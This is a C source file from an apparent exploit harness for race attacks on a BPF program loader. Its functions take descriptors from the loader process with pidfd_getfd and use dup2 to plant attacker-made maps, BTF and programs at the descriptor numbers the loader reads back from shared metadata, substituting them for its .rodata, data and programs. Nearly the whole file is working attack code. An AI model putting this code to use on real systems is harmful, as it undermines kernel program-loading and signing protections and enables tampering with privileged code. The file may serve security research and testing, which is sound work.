// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Race attacks - two runs on one metadata map: each reads the other's numbers back from it
 *
 * The second run has a table of its own in which other numbers are the lowest free ones. At the
 * number where the one has its .rodata, the other has a map of the attacker.
 */
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include "race.h"

#define APART 60 /* between the numbers of the two runs */

/**
 * peer_fd() - get a descriptor of the process that runs the loader
 * @r: the round
 * @fd: its number there
 *
 * Return: a descriptor out of the loader's way, or a negative errno.
 */
int peer_fd(struct race *r, int fd)
{
	static _Thread_local int pidfd;
	int got;

	if (!pidfd)
		pidfd = race_high(syscall(__NR_pidfd_open, r->pid, 0));
	got = syscall(__NR_pidfd_getfd, pidfd, fd, 0);
	return race_high(got < 0 ? -errno : got);
}

/**
 * twice_leave() - have a table of its own, without what the loader has made
 * @r: the round
 */
void twice_leave(struct race *r)
{
	static _Thread_local bool done;

	if (!done && r->attempt->who == THREAD)
		unshare(CLONE_FILES);
	done = true;
	close_range(3, HIGH_FD - 1, 0);
}

/* The lowest free number is APART above that of the first run. */
static void own_table(struct race *r)
{
	twice_leave(r);
	for (int n = 3; n < r->base + APART; n++)
		dup2(0, n);
}

static void run_second(struct race *r, int prog)
{
	struct victim *v = r->victim;
	struct ctx c;

	ctx_init(v, &c);
	r->set = 1;
	while (!r->start)
		race_step(r);
	race_step(r);
	race_spin(r->step ? 0 : rand() % 60000);
	if (!victim_run(prog, &c) && victim_judge(v, &c, false) == WIN)
		r->won = 1;
}

static void second(struct race *r, int prog)
{
	int decoy = map_new(EVIL);

	own_table(r);
	dup2(decoy, r->base + r->victim->rodata);
	run_second(r, prog);
	close_range(3, HIGH_FD - 1, 0);
	close(decoy);
	close(prog);
}

/**
 * twice_again() - run the very same program
 * @r: the round
 */
void twice_again(struct race *r)
{
	/* what it has got is not in the other table */
	twice_leave(r);
	second(r, peer_fd(r, r->prog_fd));
}

/**
 * twice_prog() - run another program that is bound to the same metadata
 * @r: the round
 */
void twice_prog(struct race *r)
{
	struct load l = r->victim->forever;
	int meta;

	twice_leave(r);
	meta = peer_fd(r, r->meta_fd);

	l.sig_ptr = l.sig;
	l.fd_array[0] = meta;
	l.fd_array_cnt = 1;
	l.data_sz = 0;
	second(r, race_high(load_quiet(&l)));
	close(meta);
}

/**
 * twice_run() - the first of the two runs
 * @r: the round
 *
 * Return: as race_run().
 */
int twice_run(struct race *r)
{
	dup2(r->evil[0], r->base + APART + r->victim->rodata);
	while (!r->set)
		sched_yield();
	r->start = 1;
	race_spin(rand() % 60000);
	return race_run(r);
}

struct scribble {
	struct race *r;
	int prog;
	_Atomic int done;
};

static void *scribble(void *arg)
{
	struct scribble *s = arg;
	struct ctx c;

	ctx_init(s->r->victim, &c);
	victim_run(s->prog, &c);
	s->done = 1;
	return NULL;
}

/*
 * No number for the second run's first program: later programs would leave more in the metadata
 * than numbers, and the first run would fail.
 */
static void numbers_end(const struct race *r, struct rlimit *old)
{
	struct rlimit lim;

	getrlimit(RLIMIT_NOFILE, old);
	lim = *old;
	lim.rlim_cur = r->base + APART + 1 + r->victim->maps;
	setrlimit(RLIMIT_NOFILE, &lim);
}

static void scribble_end(struct scribble *s, pthread_t thread)
{
	pthread_join(thread, NULL);
	close(s->prog);
}

/**
 * twice_scribble() - let a second run write its numbers into the metadata of one that waits
 * @r: the round
 *
 * The second run may have to wait for the first, which waits for us: it is not waited for long.
 */
void twice_scribble(struct race *r)
{
	static struct scribble s;
	static pthread_t thread;
	static bool running;
	struct rlimit old;

	if (running)
		scribble_end(&s, thread);
	twice_leave(r);
	s = (struct scribble){.r = r, .prog = peer_fd(r, r->prog_fd)};
	own_table(r);
	numbers_end(r, &old);
	running = !pthread_create(&thread, NULL, scribble, &s);
	for (int i = 0; !s.done && i < (r->running ? 200 : 10000); i++)
		usleep(1000);
	setrlimit(RLIMIT_NOFILE, &old);
	if (running && s.done) {
		scribble_end(&s, thread);
		running = false;
	}
}

/**
 * twice_scribbled_run() - the run that waits meanwhile, with the attacker's objects at the
 * numbers that it will read back
 * @r: the round, of the victim "few"
 *
 * Return: as race_run().
 */
int twice_scribbled_run(struct race *r)
{
	int calls = map_decoy(BPF_MAP_TYPE_PROG_ARRAY, 4), counts = map_decoy(BPF_MAP_TYPE_HASH, 8);
	int data = map_decoy(BPF_MAP_TYPE_ARRAY, 8), at = r->base + APART, err;

	dup2(r->evil_btf, at);
	dup2(calls, at + 1);
	dup2(counts, at + 2);
	dup2(r->evil[0], at + r->victim->rodata);
	dup2(data, at + r->victim->data);
	for (int i = 0; i < r->victim->progs; i++)
		dup2(r->evil_prog, at + r->victim->last + i);
	/* These maps are not the loader's. */
	r->last_id = map_last_id();
	err = race_run(r);
	close(calls);
	close(counts);
	close(data);
	return err;
}
